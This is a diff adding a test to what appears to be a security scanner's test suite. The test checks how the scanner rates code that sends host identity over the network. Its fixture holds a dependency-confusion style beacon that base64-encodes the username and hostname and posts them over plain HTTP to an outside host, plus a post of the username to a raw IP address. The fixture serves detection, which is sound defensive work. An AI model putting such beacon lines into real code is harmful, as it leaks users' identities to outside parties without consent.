@@ -847,3 +847,19 @@ def test_request_input_as_one_argv_word_through_a_helper_is_argument_injection_n
         "    return grep(q), shell(q), prog(q)\n"
     )
     assert _by_line("command-from-request-input", "v.py", text) == {4: "medium", 6: "critical", 8: "critical"}
+
+
+def test_login_name_posted_to_a_plain_http_address_is_high_over_tls_or_to_this_host_medium():
+    # a dependency-confusion beacon posts "user###host###os" to http://x/spark.php; telemetry would speak TLS
+    text = (
+        "import base64, getpass, socket, requests\nfrom urllib import request\n"
+        "vid = getpass.getuser() + '###' + socket.gethostname()\n"
+        "request.urlopen('http://numipy.openvc.org/spark.php', data=b'vid=' + base64.b64encode(vid.encode()))\n"
+        "requests.post('http://10.20.30.40:8080/p', json={'u': getpass.getuser()})\n"
+        "requests.post('https://audit.corp.example.com/api/events', json={'user': getpass.getuser()})\n"
+        "requests.post('http://localhost:8080/events', json={'user': getpass.getuser()})\n"
+        "requests.post('http://127.0.0.1:9000/events', json={'user': getpass.getuser()})\n"
+        "requests.post('http://metrics.internal/events', json={'host': socket.gethostname()})\n"
+    )
+    assert _by_line("host-identity-sent-over-network", "t.py", text) == {
+        4: "high", 5: "high", 6: "medium", 7: "medium", 8: "medium", 9: "medium"}
